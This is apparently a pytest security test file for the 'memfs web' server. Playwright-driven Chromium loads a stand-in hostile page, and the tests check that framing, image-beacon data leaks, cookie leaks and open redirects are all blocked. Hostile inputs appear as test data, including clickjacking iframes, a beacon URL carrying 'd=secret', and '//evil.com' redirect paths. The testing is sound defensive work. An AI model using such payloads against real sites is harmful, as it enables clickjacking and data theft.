"""``memfs web`` against an attacker: a real server process, Debian's Chromium driven by
Playwright, and a hostile page served from another port of the same host (a plain
HTTP server in the test process that records every request it gets).

What must hold: a page elsewhere cannot frame memfs's pages (so no click of a person
on it can press memfs's buttons); a memory's Markdown cannot make the browser fetch
an image from elsewhere; the browser sends the other port no cookie holding the token;
the login sends the browser only to a path of this server; a number or time out of
range is a 400 page with no traceback in the server's log; and SIGTERM ends the server
while big diffs are being worked on.
"""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from memfs.store import open_store
from tests.fixtures.mount import sqlite_url, wait_for
from tests.fixtures.web import WebProcess
from tests.http_raw import request

TOKEN = "hostile-token-4242"
OUT_OF_RANGE = [
    "/op/99999999999999999999999",
    "/op/9223372036854775808",
    "/op/9223372036854775808/undo",
    "/?before=99999999999999999999999",
    "/?since=9999-12-31T23:59",
    "/?since=100000000000w",
    "/?until=0001-01-01T00:00",
    "/events?after=99999999999999999999999",
    "/history/a.md?rev=99999999999999999999999",
    "/history/a.md?a=1&b=99999999999999999999999",
    "/restore/a.md?rev=99999999999999999999999",
]


@dataclass
class Attacker:
    """A page on another port: what it serves, and every request it got."""

    port: int = 0
    html: str = "<!doctype html><title>elsewhere</title><p>elsewhere</p>"
    seen: list[tuple[str, str]] = field(default_factory=list)  # (path, Cookie header)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    found = Attacker()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.seen.append((self.path, self.headers.get("Cookie", "")))
            body = found.html.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "memory.db"
    with open_store(sqlite_url(path)) as store:
        store.write("a.md", b"# first\n", author="agent:planner")
        store.write("a.md", b"# second\n", author="agent:planner")
    return path


def _no_traceback(server: WebProcess) -> None:
    log = "".join(server.stderr)
    assert "Traceback" not in log and "failed" not in log, log


def test_a_page_on_another_port_cannot_frame_the_restore_button(
    db: Path, web_server: Callable[..., WebProcess], page: Any, attacker: Attacker
) -> None:
    server = web_server("--store", sqlite_url(db))
    targets = ["/restore/a.md?rev=1", "/checkpoints/x/return", "/op/1/undo"]
    attacker.html = "<!doctype html><title>win a prize</title>" + "".join(
        f'<iframe src="{server.url}{t}" width="600" height="400"></iframe>' for t in targets
    )
    refused: list[str] = []
    page.on("console", lambda m: refused.append(m.text) if "frame" in m.text else None)
    page.goto(attacker.url + "/", wait_until="load")
    frames = [f for f in page.frames if f is not page.main_frame]
    assert len(frames) == len(targets)
    for frame in frames:
        # A refused frame shows the browser's own error page: no memfs form in it.
        assert frame.locator("form").count() == 0, frame.url
        assert frame.locator("button").count() == 0, frame.url
    wait_for(lambda: len(refused) >= len(targets), what="the browser's refusals")
    assert all("frame-ancestors" in text or "X-Frame-Options" in text for text in refused)
    with open_store(sqlite_url(db)) as store:
        assert store.read("a.md")[0] == b"# second\n"  # nothing was restored
    # Every response says so, refusals of the guard included.
    for path in ("/", "/restore/a.md?rev=1", "/static/style.css", "/nothing-here"):
        answer = request(server.port, host=f"127.0.0.1:{server.port}", path=path)
        assert answer.headers["x-frame-options"] == "DENY"
        policy = answer.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "img-src 'self' data:" in policy
        assert "unsafe-inline" not in policy
    refused_host = request(server.port, host="evil.example", path="/")
    assert refused_host.status == 421
    assert refused_host.headers["x-frame-options"] == "DENY"


def test_a_memory_s_markdown_image_from_elsewhere_is_not_fetched(
    db: Path, web_server: Callable[..., WebProcess], page: Any, attacker: Attacker
) -> None:
    beacon = f"{attacker.url}/beacon.png?d=secret"
    with open_store(sqlite_url(db)) as store:
        store.write("notes.md", f"# notes\n\n![x]({beacon})\n".encode(), author="agent:x")
    server = web_server("--store", sqlite_url(db))
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "img-src" in m.text else None)
    page.goto(server.url + "/tree/notes.md", wait_until="load")
    # The image is in the page (its Markdown rendered), yet the browser refused it:
    # images hold the load event, so a fetched one would have been seen by now.
    assert page.locator(f'img[src="{beacon}"]').count() == 1
    wait_for(lambda: violations, what="the browser's refusal of the image")
    assert attacker.seen == []


def test_the_cookie_another_port_gets_is_not_the_token(
    db: Path, web_server: Callable[..., WebProcess], page: Any, attacker: Attacker
) -> None:
    server = web_server("--store", sqlite_url(db), env={"MEMFS_WEB_TOKEN": TOKEN})
    page.goto(server.printed)
    page.get_by_role("heading", name="Timeline").wait_for()
    assert "token=" not in page.url
    cookies = page.context.cookies()
    assert cookies and all(TOKEN not in c["value"] for c in cookies)
    assert any(c["name"] == f"memfs_web_session_{server.port}" for c in cookies)
    page.goto(attacker.url + "/look")
    (path, cookie_header), *_ = attacker.seen
    assert path == "/look"
    assert TOKEN not in cookie_header
    # The session is this server's: the token itself is no cookie it accepts.
    forged = request(
        server.port,
        host=f"127.0.0.1:{server.port}",
        path="/",
        headers={"Cookie": f"memfs_web_session_{server.port}={TOKEN}"},
    )
    assert forged.status == 401


@pytest.mark.parametrize("path", ["//evil.com/x", "/\\evil.com/x", "///evil.com/x?y=1"])
def test_the_login_sends_the_browser_only_to_a_path_of_this_server(
    db: Path, web_server: Callable[..., WebProcess], path: str
) -> None:
    server = web_server("--store", sqlite_url(db), env={"MEMFS_WEB_TOKEN": TOKEN})
    sep = "&" if "?" in path else "?"
    answer = request(server.port, host=f"127.0.0.1:{server.port}", path=f"{path}{sep}token={TOKEN}")
    assert answer.status == 303
    location = answer.headers["location"]
    assert location.startswith("/") and not location.startswith(("//", "/\\"))
    assert "evil.com/x" in location and TOKEN not in location


def test_out_of_range_numbers_and_times_are_400_pages_with_no_traceback(
    db: Path, web_server: Callable[..., WebProcess]
) -> None:
    server = web_server("--store", sqlite_url(db), "--verbose")
    for path in OUT_OF_RANGE:
        answer = request(server.port, host=f"127.0.0.1:{server.port}", path=path)
        assert answer.status == 400, (path, answer.body[:300])
        text = answer.body.decode()
        assert "out of range" in text, (path, text)
        assert "Traceback" not in text and "Error:" not in text
    _no_traceback(server)


def test_a_diff_too_large_to_show_is_a_summary_with_both_sides_to_download(
    db: Path, web_server: Callable[..., WebProcess], page: Any
) -> None:
    lines = 200_000
    old = b"".join(b"line %d\n" % i for i in range(2 * lines))
    new = b"".join(b"line %d\n" % i if i % 2 else b"changed %d\n" % i for i in range(2 * lines))
    with open_store(sqlite_url(db)) as store:
        a = store.write("big.md", old, author="agent:x").rev
        b = store.write("big.md", new, author="agent:x").rev
        op = store.operations(limit=1)[0].id
    server = web_server("--store", sqlite_url(db))
    for where in (f"/history/big.md?a={a}&b={b}", f"/op/{op}"):
        page.goto(server.url + where)
        summary = page.locator(".diff-summary")
        assert re.search(r"\+200,000 −200,000 lines", summary.inner_text()), where
        with page.expect_download() as done:
            summary.get_by_role("link").last.click()
        assert Path(done.value.path()).read_bytes() == new
    _no_traceback(server)


def test_sigterm_ends_the_server_while_big_diffs_are_worked_on(
    db: Path, web_server: Callable[..., WebProcess]
) -> None:
    """The exit happens with the requests in flight; how fast is scripts/bench_web.py's
    to measure."""
    lines = 150_000
    old = b"".join(b"line %d\n" % i for i in range(2 * lines))
    new = b"".join(b"line %d\n" % i if i % 2 else b"changed %d\n" % i for i in range(2 * lines))
    with open_store(sqlite_url(db)) as store:
        a = store.write("big.md", old, author="agent:x").rev
        b = store.write("big.md", new, author="agent:x").rev
    server = web_server("--store", sqlite_url(db))
    answers: list[int | str] = []

    def ask() -> None:
        try:
            found = request(
                server.port,
                host=f"127.0.0.1:{server.port}",
                path=f"/history/big.md?a={a}&b={b}",
                timeout=60,
            )
            answers.append(found.status)
        except OSError as exc:
            answers.append(type(exc).__name__)

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    try:
        assert server.stop() == 0
    finally:
        for thread in threads:
            thread.join(60)
    assert len(answers) == 8
    _no_traceback(server)


def test_the_token_from_a_file_and_a_warning_for_one_on_the_command_line(
    db: Path, tmp_path: Path, web_server: Callable[..., WebProcess]
) -> None:
    secret = tmp_path / "token"
    secret.write_text(TOKEN + "\n")
    secret.chmod(0o600)
    server = web_server("--store", sqlite_url(db), "--token-file", str(secret))
    assert server.printed.endswith(f"/?token={TOKEN}")
    assert not any("warning" in line for line in server.stderr)
    host = f"127.0.0.1:{server.port}"
    assert request(server.port, host=host, path="/").status == 401
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    assert request(server.port, host=host, path="/", headers=bearer).status == 200
    typed = web_server("--store", sqlite_url(db), "--token", TOKEN)
    assert any(
        line.startswith("memfs web: warning: a --token on the command line can be read by")
        for line in typed.stderr
    ), typed.stderr
    secret.chmod(0o644)
    shared = web_server("--store", sqlite_url(db), "--token-file", str(secret))
    assert f"memfs web: warning: {secret} is readable by other users; chmod 600 {secret}\n" in (
        shared.stderr
    )


def test_mcp_takes_its_token_the_same_ways(tmp_path: Path) -> None:
    import subprocess

    from tests.fixtures.web import MEMFS

    secret = tmp_path / "token"
    secret.write_text("")
    base = [MEMFS, "mcp", "--root", str(tmp_path)]
    done = subprocess.run([*base, "--token", TOKEN], capture_output=True, text=True, timeout=60)
    lines = done.stderr.splitlines()
    assert lines[0].startswith("memfs mcp: warning: a --token on the command line can be read")
    assert lines[-1] == "Error: --token protects --http; over stdio there is nothing to refuse"
    done = subprocess.run(
        [*base, "--http", ":0", "--token-file", str(secret)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2
    assert done.stderr.splitlines()[-1] == (
        f"Error: Invalid value for --token-file: {secret} must hold the token on one line"
    )
